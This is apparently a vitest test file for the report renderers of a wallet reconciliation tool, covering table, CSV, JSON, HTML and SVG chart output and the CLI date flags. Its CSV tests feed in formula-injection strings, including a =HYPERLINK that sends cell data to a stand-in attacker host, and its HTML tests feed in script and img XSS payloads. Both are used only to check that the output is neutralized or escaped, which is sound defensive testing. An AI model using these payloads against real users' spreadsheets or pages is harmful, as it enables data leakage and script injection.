import { describe, expect, it } from 'vitest';
import { axisLabels, labelledDateIndexes, niceTicks, renderBalanceChartSvg, scaleBigInt } from '../../src/reports/balance-chart-svg.js';
import { parse as parseCsv } from 'csv-parse/sync';
import { CSV_COLUMNS, neutralizeFormula, renderCsv } from '../../src/reports/render-csv.js';
import { renderHtml } from '../../src/reports/render-html.js';
import { renderJson } from '../../src/reports/render-json.js';
import { renderTable } from '../../src/reports/render-table.js';
import type { StoredReconciliationResult } from '../../src/reconciliation/reconciliation-result.js';
import { summarizeResults } from '../../src/reports/report-data.js';
import { rangeFromFlags } from '../../src/cli/report-command.js';
import { UsageError } from '../../src/errors.js';

const computedAt = new Date('2026-11-21T06:00:00Z');
function result(overrides: Partial<StoredReconciliationResult>): StoredReconciliationResult {
  return {
    account: 'acme',
    businessDate: '2026-11-20',
    currency: 'EUR',
    gatewayBalance: 100n,
    singleBalance: 100n,
    expectedBalance: 100n,
    previousBalance: null,
    movement: null,
    difference: 0n,
    status: 'matched',
    runId: 3,
    computedAt,
    caseId: null,
    ...overrides,
  };
}

const big = 2n ** 53n + 1n;
const results = [
  result({}),
  result({ currency: 'USD', gatewayBalance: big, singleBalance: big, expectedBalance: big - 100n, difference: 100n, status: 'break', previousBalance: 1n, movement: big - 1n }),
  result({ account: 'zeta', currency: null, gatewayBalance: null, singleBalance: null, expectedBalance: null, difference: null, status: 'no_snapshot', runId: null }),
];
const report = summarizeResults({ from: '2026-11-20', to: '2026-11-20' }, results);

describe('report summary', () => {
  it('counts every status per account and in total, and implies the exit code', () => {
    expect(report.summary.accounts.map((a) => [a.account, a.counts.matched, a.counts.break, a.counts.no_snapshot])).toEqual([
      ['acme', 1, 1, 0],
      ['zeta', 0, 0, 1],
    ]);
    expect(report.summary.total).toMatchObject({ matched: 1, break: 1, no_snapshot: 1, missing_in_ledger: 0 });
    expect(report.summary.exitCode).toBe(3);
  });
});

describe('dates never reconciled', () => {
  const range = { from: '2026-11-16', to: '2026-11-22' };
  const matched = [result({ businessDate: '2026-11-16' }), result({ businessDate: '2026-11-19' }), result({ account: 'zeta', businessDate: '2026-11-16' })];

  it('lists, per account asked for, the dates up to today without any result, and makes the exit code 3', () => {
    const summary = summarizeResults(range, matched, { accounts: ['acme', 'zeta'], today: '2026-11-20' }).summary;
    expect(summary.accounts.map((a) => [a.account, a.unreconciledDates])).toEqual([
      ['acme', ['2026-11-17', '2026-11-18', '2026-11-20']],
      ['zeta', ['2026-11-17', '2026-11-18', '2026-11-19', '2026-11-20']],
    ]);
    // The 21st and 22nd are after today: not yet due, so not missing.
    expect(summary.unreconciledDates).toEqual(['2026-11-17', '2026-11-18', '2026-11-19', '2026-11-20']);
    expect(summary.total.matched).toBe(3);
    expect(summary.exitCode).toBe(3);
  });

  it('shows them in the table instead of calling the period clean', () => {
    const text = renderTable(summarizeResults(range, matched, { accounts: ['acme', 'zeta'], today: '2026-11-20' }));
    expect(text).toContain('not reconciled: acme 2026-11-17 to 2026-11-18, 2026-11-20\nnot reconciled: zeta 2026-11-17 to 2026-11-20\n');
    expect(text).not.toContain('Every result matched.');
    expect(text).toMatch(/Every stored result matched, but not every date was reconciled\.$/);
  });

  it('reports nothing missing when every date has a result, or no accounts are given', () => {
    const full = summarizeResults({ from: '2026-11-16', to: '2026-11-16' }, matched, { accounts: ['acme', 'zeta'], today: '2026-11-20' }).summary;
    expect(full).toMatchObject({ unreconciledDates: [], exitCode: 0 });
    expect(summarizeResults(range, matched).summary).toMatchObject({ unreconciledDates: [], exitCode: 0 });
  });
});

describe('table', () => {
  it('prints a summary per account and then only the rows that did not match', () => {
    const text = renderTable(report);
    expect(text).toMatch(/^Reconciliation 2026-11-20\n/);
    expect(text).toMatch(/acme\s+1\s+1\s+0/);
    expect(text).toMatch(/2 results need attention/);
    expect(text).toMatch(/2026-11-20\s+acme\s+USD\s+break\s+90,071,992,547,409\.93\s+90,071,992,547,409\.93\s+90,071,992,547,408\.93\s+1\.00/);
    expect(text).toMatch(/zeta\s+no_snapshot/);
    expect(text).not.toMatch(/acme\s+EUR\s+matched/);
  });

  it('says so when nothing is stored or everything matched', () => {
    expect(renderTable(summarizeResults({ from: '2026-11-20', to: '2026-11-20' }, [], { accounts: ['acme'], today: '2026-11-21', latestClosedDate: '2026-11-20' }))).toMatch(
      /no results stored. Run "wallet-recon reconcile --date 2026-11-20"/,
    );
    // A range whose dates' cut-offs are still ahead: no advice that reconcile would then refuse.
    const ahead = renderTable(summarizeResults({ from: '2026-11-20', to: '2026-11-21' }, [], { accounts: ['acme'], today: '2026-11-21', latestClosedDate: '2026-11-19' }));
    expect(ahead).toBe("Reconciliation 2026-11-20 to 2026-11-21: no results stored, and no date of it can be reconciled now (its cut-off is still ahead, or it is before the accounts' first capture).");
    expect(renderTable(summarizeResults({ from: '2026-11-20', to: '2026-11-20' }, [result({})]))).toMatch(/Every result matched\.$/);
  });
});

describe('csv', () => {
  it('quotes per RFC 4180 only when needed, and reads back to the same fields', () => {
    const awkward = summarizeResults({ from: '2026-11-20', to: '2026-11-20' }, [result({ account: 'a,b "c"\nd' })]);
    const text = renderCsv(awkward);
    expect(text.split('\r\n')[1]).toMatch(/^"a,b ""c""\nd",2026-11-20,EUR,100,/);
    expect((parseCsv(text) as string[][])[1]![0]).toBe('a,b "c"\nd');
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
    ['+cmd', "'+cmd"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1+1', "'\t=1+1"],
    ['-100', '-100'],
    ['+5', '+5'],
    ['-12.50', '-12.50'],
    ['eu-main', 'eu-main'],
  ])('neutralizes a formula cell %j → %j, numbers untouched', (cell, expected) => {
    expect(neutralizeFormula(cell)).toBe(expected);
  });

  it('writes a =HYPERLINK account name as inert text, and negative amounts as numbers', () => {
    const hostile = summarizeResults({ from: '2026-11-20', to: '2026-11-20' }, [
      result({ account: '=HYPERLINK("http://evil.example","x")', difference: -100n, movement: -5n, previousBalance: 105n, status: 'break' }),
    ]);
    const [, row] = parseCsv(renderCsv(hostile)) as string[][];
    expect(row![0]).toBe(`'=HYPERLINK("http://evil.example","x")`);
    expect(row![CSV_COLUMNS.indexOf('difference')]).toBe('-100');
    expect(row![CSV_COLUMNS.indexOf('movement')]).toBe('-5');
  });

  it('writes one header line and one CRLF line per result with every column, amounts exact', () => {
    const lines = renderCsv(report).split('\r\n');
    expect(lines).toHaveLength(results.length + 2);
    expect(lines.at(-1)).toBe('');
    expect(lines[0]).toBe(CSV_COLUMNS.join(','));
    expect(lines[2]).toBe(
      'acme,2026-11-20,USD,9007199254740993,9007199254740993,9007199254740893,1,9007199254740992,100,break,3,2026-11-21T06:00:00.000Z,' +
        '2,"90,071,992,547,409.93","90,071,992,547,409.93","90,071,992,547,408.93",0.01,"90,071,992,547,409.92",1.00,,,,gateway,,,,',
    );
    expect(lines[3]).toBe('zeta,2026-11-20,,,,,,,,no_snapshot,,2026-11-21T06:00:00.000Z,,,,,,,,,,,gateway,,,,');
  });

  it('adds a not_reconciled line for each account and date without any result, in date order', () => {
    const partial = summarizeResults({ from: '2026-11-19', to: '2026-11-21' }, [result({})], { accounts: ['acme'], today: '2026-11-21' });
    const rows = (parseCsv(renderCsv(partial)) as string[][]).slice(1).map((r) => [r[0], r[1], r[CSV_COLUMNS.indexOf('status')]]);
    expect(rows).toEqual([
      ['acme', '2026-11-19', 'not_reconciled'],
      ['acme', '2026-11-20', 'matched'],
      ['acme', '2026-11-21', 'not_reconciled'],
    ]);
  });

  it('keeps an unknown currency in minor units, with empty decimals', () => {
    const [, row] = parseCsv(renderCsv(summarizeResults({ from: '2026-11-20', to: '2026-11-20' }, [result({ currency: 'AAB', gatewayBalance: 12345n })]))) as string[][];
    expect(row![CSV_COLUMNS.indexOf('currency_decimals')]).toBe('');
    expect(row![CSV_COLUMNS.indexOf('gateway_balance_formatted')]).toBe('12,345 minor units');
  });
});

describe('json', () => {
  it('gives a summary and results with amounts as strings of digits', () => {
    const parsed = JSON.parse(renderJson(report)) as { summary: { total: Record<string, number> }; results: Array<Record<string, unknown>> };
    expect(parsed.summary.total.break).toBe(1);
    expect(parsed.results[1]).toEqual({
      account: 'acme',
      business_date: '2026-11-20',
      currency: 'USD',
      gateway_balance: '9007199254740993',
      single_balance: '9007199254740993',
      expected_balance: '9007199254740893',
      previous_balance: '1',
      movement: '9007199254740992',
      difference: '100',
      status: 'break',
      run_id: 3,
      books_import_id: null,
      note: null,
      scale: 2,
      source: 'gateway',
      bank_statement_id: null,
      items_total: null,
      unexplained: null,
      computed_at: '2026-11-21T06:00:00.000Z',
      case_id: null,
      case_state: null,
      case_age_days: null,
      currency_decimals: 2,
      formatted: {
        gateway_balance: '90,071,992,547,409.93',
        single_balance: '90,071,992,547,409.93',
        expected_balance: '90,071,992,547,408.93',
        previous_balance: '0.01',
        movement: '90,071,992,547,409.92',
        difference: '1.00',
        items_total: null,
        unexplained: null,
      },
    });
  });
});

describe('cases in reports', () => {
  const open = (id: number, ageDays: number) => ({ id, state: 'open' as const, ageDays, acceptedUntil: null });
  const withCases = summarizeResults({ from: '2026-11-20', to: '2026-11-20' }, [
    result({ currency: 'USD', status: 'break', difference: 100n, caseId: 1, case: open(1, 0) }),
    result({ currency: 'GBP', status: 'missing_in_ledger', expectedBalance: null, difference: null, caseId: 2, case: open(2, 7) }),
    result({ currency: 'CHF', status: 'break', difference: 5n, caseId: 3, case: open(3, 8) }),
    result({ currency: 'JPY', status: 'break', difference: 9n, caseId: 4, case: open(4, 31) }),
    result({ currency: 'EUR', status: 'break', difference: 100n, caseId: 5, case: { id: 5, state: 'accepted', ageDays: 3, acceptedUntil: '2026-11-23' } }),
  ]);

  it('counts active cases by age bucket and lists accepted ones apart, not as breaks', () => {
    expect(withCases.summary.cases).toEqual({
      activeByAge: { 'under 2 days': 1, '2-7 days': 1, '8-30 days': 1, 'over 30 days': 1 },
      accepted: [{ caseId: 5, account: 'acme', currency: 'EUR', kind: 'break', acceptedUntil: '2026-11-23', ageDays: 3 }],
    });
    expect(withCases.summary.total.break).toBe(3);
    expect(withCases.summary.accepted).toBe(1);
    const table = renderTable(withCases);
    expect(table).toContain('active cases by age: under 2 days 1, 2-7 days 1, 8-30 days 1, over 30 days 1');
    expect(table).toContain('accepted (not counted as a break): case 5 acme EUR break until 2026-11-23');
    expect(table).toContain('4 results need attention, 1 accepted:');
    expect(table).toMatch(/2026-11-20\s+acme\s+EUR\s+break\s.*\s5\s+accepted\s+3$/m);
  });

  it('gives every format the case id, state and age of each result', () => {
    expect(renderCsv(withCases).split('\r\n')[5]).toMatch(/,5,accepted,3,gateway,,,,$/);
    const json = JSON.parse(renderJson(withCases)) as { results: Array<Record<string, unknown>> };
    expect(json.results[4]).toMatchObject({ case_id: 5, case_state: 'accepted', case_age_days: 3 });
    const html = renderHtml(withCases, [], computedAt);
    expect(html).toContain('<tr class="status-break case-accepted">');
    // One compact cell in HTML, so the table keeps fitting 1280 px.
    expect(html).toContain('<td class="nowrap">#5 accepted, 3 d</td></tr>');
    expect(html).toContain('<li>active cases by age: under 2 days 1, 2-7 days 1, 8-30 days 1, over 30 days 1</li>');
  });
});

describe('chart', () => {
  it('scales BigInt balances to a fraction without losing the order of values 1 apart beyond 2^53', () => {
    const min = 10n ** 30n;
    expect(scaleBigInt(min, min, min + 2n)).toBe(0);
    expect(scaleBigInt(min + 1n, min, min + 2n)).toBe(0.5);
    expect(scaleBigInt(min + 2n, min, min + 2n)).toBe(1);
    expect(scaleBigInt(5n, 5n, 5n)).toBe(0.5);
  });

  it('labels axes with round, grouped major units, never scientific notation', () => {
    // The case: EUR 2,674,944,142,140,371.99 was labelled 2.674944142140372e15.
    const eur = renderBalanceChartSvg({ currency: 'EUR', dates: ['2026-11-20', '2026-11-21'], series: [{ account: 'a', kind: 'gateway', points: [{ date: '2026-11-20', balance: 267494414214037199n }, { date: '2026-11-21', balance: 267494414214037199n + 40_000_000n }] }] });
    const labels = (svg: string) => [...svg.matchAll(/<text class="y-label"[^>]*>([^<]*)<\/text>/g)].map((m) => m[1]);
    expect(eur).not.toMatch(/\de\d/);
    expect(labels(eur)).toEqual(['2,674,944,142,100,000', '2,674,944,142,200,000', '2,674,944,142,300,000', '2,674,944,142,400,000', '2,674,944,142,500,000', '2,674,944,142,600,000']);
    // Small amounts keep the currency's decimals when the step needs them; whole steps drop them.
    expect(niceTicks(5n, 15n)).toEqual([5n, 10n, 15n]);
    expect(axisLabels(niceTicks(5n, 15n), 2, 210).labels).toEqual(['0.05', '0.10', '0.15']);
    expect(axisLabels([0n, 250n, 500n], 2, 210).labels).toEqual(['0.00', '2.50', '5.00']);
    expect(axisLabels([-200n, 0n, 200n], 2, 210).labels).toEqual(['-2', '0', '2']);
    expect(axisLabels([-150000n, 0n, 150000n], 0, 210).labels).toEqual(['-150,000', '0', '150,000']);
    expect(niceTicks(-5n, 95n)).toEqual([-50n, 0n, 50n, 100n]);
    // Too wide for the margin: given in a power of a thousand that keeps every label exact, named in the title.
    const huge = renderBalanceChartSvg({ currency: 'EUR', dates: ['2026-11-20', '2026-11-21'], series: [{ account: 'a', kind: 'gateway', points: [{ date: '2026-11-20', balance: 10n ** 37n }, { date: '2026-11-21', balance: 10n ** 37n + 4n * 10n ** 30n }] }] });
    expect(labels(huge)).toEqual(['100,000,000,000,000,000,000', '100,000,010,000,000,000,000', '100,000,020,000,000,000,000', '100,000,030,000,000,000,000', '100,000,040,000,000,000,000']);
    expect(huge).toContain('>EUR (in quadrillions)</text>');
  });

  it('never lets the last date label overlap the one before it', () => {
    expect(labelledDateIndexes(10, 3)).toEqual([0, 3, 6, 9]);
    expect(labelledDateIndexes(11, 3)).toEqual([0, 3, 6, 10]);
    expect(labelledDateIndexes(8, 3)).toEqual([0, 3, 7]);
    expect(labelledDateIndexes(1, 1)).toEqual([0]);
    const dates = Array.from({ length: 27 }, (_, i) => `2026-10-${String(i + 1).padStart(2, '0')}`);
    const svg = renderBalanceChartSvg({ currency: 'EUR', dates, series: [{ account: 'a', kind: 'gateway', points: dates.map((date, i) => ({ date, balance: BigInt(i) * 100n })) }] });
    const xs = [...svg.matchAll(/<text class="x-label" x="([\d.]+)"/g)].map((m) => Number(m[1]));
    // A date label is about 66 px wide: neighbours at least that far apart.
    for (let i = 1; i < xs.length; i++) expect(xs[i]! - xs[i - 1]!).toBeGreaterThanOrEqual(70);
    expect(svg).toContain('>2026-10-27</text>');
  });

  it('wraps the legend onto rows so every entry of six accounts stays inside the chart, growing it downwards', () => {
    const accounts = ['eu-main', 'us-main', 'asia-pacific-settlement', 'uk-payouts', 'latam-collections', 'africa-main'];
    const svg = renderBalanceChartSvg({
      currency: 'EUR',
      dates: ['2026-11-20', '2026-11-21'],
      series: accounts.flatMap((account, i) => [
        { account, kind: 'gateway' as const, points: [{ date: '2026-11-20', balance: BigInt(i) * big }] },
        { account, kind: 'books' as const, points: [{ date: '2026-11-21', balance: BigInt(i) }] },
      ]),
    });
    const [, width, height] = /viewBox="0 0 (\d+) (\d+)"/.exec(svg)!.map(Number);
    expect(svg).toContain(`width="${width}" height="${height}"`);
    const entries = [...svg.matchAll(/<text class="legend" x="([\d.]+)" y="([\d.]+)">([^<]*)<\/text>/g)].map(([, x, y, label]) => ({ x: Number(x), y: Number(y), label: label! }));
    expect(entries.map((e) => e.label)).toEqual(accounts.flatMap((a) => [`${a} gateway`, `${a} books`]));
    for (const e of entries) {
      // 11px labels: about 6.6px per character, as the chart itself assumes.
      expect(e.x + e.label.length * 6.6).toBeLessThanOrEqual(width!);
      expect(e.y).toBeLessThanOrEqual(height!);
    }
    for (const [, x2] of svg.matchAll(/<line x1="[\d.]+" y1="[\d.]+" x2="([\d.]+)"/g)) expect(Number(x2)).toBeLessThanOrEqual(width!);
    const rows = new Set(entries.map((e) => e.y)).size;
    expect(rows).toBeGreaterThan(1);
    expect(height).toBe(300 + (rows - 1) * 16);
  });

  it('draws one polyline per run of consecutive days, a point per day, axes and labels', () => {
    const svg = renderBalanceChartSvg({
      currency: 'EUR',
      dates: ['2026-11-18', '2026-11-19', '2026-11-20', '2026-11-21'],
      series: [
        { account: 'acme', kind: 'gateway', points: [{ date: '2026-11-18', balance: big }, { date: '2026-11-19', balance: big + 2n }, { date: '2026-11-21', balance: big + 1n }] },
        { account: 'acme', kind: 'books', points: [{ date: '2026-11-18', balance: big }] },
      ],
    });
    expect(svg.match(/<polyline/g)).toHaveLength(1);
    expect(svg.match(/<circle/g)).toHaveLength(4);
    // Lowest balance on the bottom edge of the plot (y 244), highest on the top edge (y 36).
    expect(svg).toMatch(/<polyline class="series gateway"[^>]*points="\d+\.\d,244\.0 \d+\.\d,36\.0"/);
    expect(svg).toContain('<title>acme gateway 2026-11-21: 90,071,992,547,409.94</title>');
    expect(svg).toContain('class="axis"');
    expect(svg).toContain('>2026-11-18</text>');
  });
});

describe('html', () => {
  it('escapes every value it prints', () => {
    const hostile = summarizeResults({ from: '2026-11-20', to: '2026-11-20', account: '<script>alert(1)</script>' }, [
      result({ account: '<script>alert(1)</script>', status: 'break', difference: 1n }),
    ]);
    const html = renderHtml(
      hostile,
      [{ currency: 'EUR', dates: ['2026-11-19', '2026-11-20'], series: [{ account: '"><img src=x>', kind: 'gateway', points: [{ date: '2026-11-19', balance: 2n }, { date: '2026-11-20', balance: 1n }] }] }],
      computedAt,
    );
    expect(html).not.toContain('<script>');
    expect(html).not.toContain('<img');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('&quot;&gt;&lt;img src=x&gt;');
  });

  it('draws no chart of a single date, and says "1 result needs attention" in the singular', () => {
    const oneBreak = summarizeResults({ from: '2026-11-20', to: '2026-11-20' }, [result({ status: 'break', difference: 1n, expectedBalance: 99n })]);
    const onePoint = [{ currency: 'EUR', dates: ['2026-11-20'], series: [{ account: 'acme', kind: 'gateway' as const, points: [{ date: '2026-11-20', balance: 100n }] }] }];
    const html = renderHtml(oneBreak, onePoint, computedAt);
    expect(html).not.toContain('<svg');
    // The date broke: "no currency moved or broke" would be untrue; the page says why there is no chart.
    expect(html).not.toContain('No currency moved or broke');
    expect(html).toContain('A chart needs two business dates or more: this report is of one.');
    expect(html).toContain('1 result needs attention');
    expect(renderTable(oneBreak)).toContain('1 result needs attention');
    const twoPoints = [{ ...onePoint[0]!, dates: ['2026-11-19', '2026-11-20'], series: [{ ...onePoint[0]!.series[0]!, points: [{ date: '2026-11-19', balance: 90n }, { date: '2026-11-20', balance: 100n }] }] }];
    expect(renderHtml(summarizeResults({ from: '2026-11-19', to: '2026-11-20' }, oneBreak.results), twoPoints, computedAt)).toContain('<svg');
  });

  it('prints a one-date report as one table of every currency, by account and currency', () => {
    const day = summarizeResults({ from: '2026-11-20', to: '2026-11-20' }, [
      result({ currency: 'USD', status: 'break', difference: 5n, expectedBalance: 95n }),
      result({ currency: 'EUR' }),
      result({ account: 'beta', currency: 'CHF' }),
    ]);
    const html = renderHtml(day, [], computedAt);
    expect(html).not.toContain('<section class="currency"');
    expect(html.match(/<table class="results"/g)).toHaveLength(1);
    const table = /<table class="results" id="results">([\s\S]*?)<\/table>/.exec(html)![1]!;
    expect([...table.matchAll(/<td class="date">2026-11-20<\/td><td>(\w+)<\/td><td>(\w+)<\/td>/g)].map((m) => `${m[1]} ${m[2]}`)).toEqual(['acme EUR', 'acme USD', 'beta CHF']);
    expect(table).toContain('matched: 2 results');
    expect(table).toContain('break: 1 result<');
  });

  it('lists a range section in date order, a break among its neighbouring dates', () => {
    const week = summarizeResults({ from: '2026-11-17', to: '2026-11-19' }, [
      result({ businessDate: '2026-11-17' }),
      result({ businessDate: '2026-11-18', status: 'break', difference: 5n, expectedBalance: 95n }),
      result({ businessDate: '2026-11-19' }),
    ]);
    const section = /<section class="currency" data-currency="EUR">([\s\S]*?)<\/section>/.exec(renderHtml(week, [], computedAt))![1]!;
    expect([...section.matchAll(/<td class="date">([\d-]+)<\/td>/g)].map((m) => m[1])).toEqual(['2026-11-17', '2026-11-18', '2026-11-19']);
  });

  it('summarises a range longer than a month: a line per date and the exceptions; every matched row only with allRows', () => {
    const dates = Array.from({ length: 40 }, (_, i) => new Date(Date.UTC(2026, 9, 1 + i)).toISOString().slice(0, 10));
    const long = summarizeResults({ from: dates[0]!, to: dates.at(-1)! }, [
      ...dates.map((businessDate) => result({ businessDate })),
      result({ businessDate: dates[10]!, currency: 'USD', status: 'break', difference: 5n, expectedBalance: 95n }),
    ]);
    const html = renderHtml(long, [], computedAt);
    expect(html.match(/<table id="per-date">[\s\S]*?<\/table>/)![0].match(/<tr><td class="date">/g)).toHaveLength(40);
    const eur = /<section class="currency" data-currency="EUR">([\s\S]*?)<\/section>/.exec(html)![1]!;
    expect(eur).toContain('40 matched results not listed (report --all-rows lists them; the CSV report has every row).');
    expect(eur).not.toContain('<td class="date">');
    const full = renderHtml(long, [], computedAt, undefined, { allRows: true });
    expect(/<section class="currency" data-currency="EUR">([\s\S]*?)<\/section>/.exec(full)![1]!.match(/<td class="date">/g)!.length).toBeGreaterThanOrEqual(40);
  });

  it('says which statement file a backfilled day came from instead of a capture at the cut-off', () => {
    const facts = {
      generatedAt: computedAt,
      timezone: 'UTC',
      cutoff: '00:00',
      tolerance: { default: '0', byCurrency: {}, bps: 0 },
      captures: [{ account: 'acme', businessDate: '2026-11-20', runId: 3, capturedAt: computedAt, trigger: 'backfill', endOfDay: true, driftSeconds: 0, source: 'statements-november.csv' }],
      books: [],
    };
    const html = renderHtml(report, [], computedAt, facts);
    expect(html).toContain('run 3 (backfill), from the statement file statements-november.csv, imported 2026-11-21 06:00 UTC');
    expect(html).not.toContain('at the cut-off');
  });

  it('refers to nothing outside the file', () => {
    const html = renderHtml(report, [], computedAt);
    expect(html).not.toMatch(/\b(src|href)=|url\(|@import|https?:/);
  });
});

describe('report flags', () => {
  it('refuses --date together with --from or --to, naming both', () => {
    expect(() => rangeFromFlags({ date: '2026-11-20', from: '2026-11-01' })).toThrow(new UsageError('--date and --from contradict each other: give one business date with --date, or a range with --from and --to.'));
    expect(() => rangeFromFlags({ date: '2026-11-20', to: '2026-11-21' })).toThrow(/--date and --to contradict/);
  });

  it('needs a date or a whole, ordered range of real dates', () => {
    expect(() => rangeFromFlags({})).toThrow(/Give --date D, or --from D1 --to D2/);
    expect(() => rangeFromFlags({ from: '2026-11-01' })).toThrow(/--from needs --to as well/);
    expect(() => rangeFromFlags({ from: '2026-11-02', to: '2026-11-01' })).toThrow(/--from 2026-11-02 is after --to 2026-11-01/);
    expect(() => rangeFromFlags({ date: '2026-11-31' })).toThrow(/--date "2026-11-31" is not a real date/);
    expect(rangeFromFlags({ from: '2026-11-01', to: '2026-11-30', account: 'acme' })).toEqual({ from: '2026-11-01', to: '2026-11-30', account: 'acme' });
  });
});
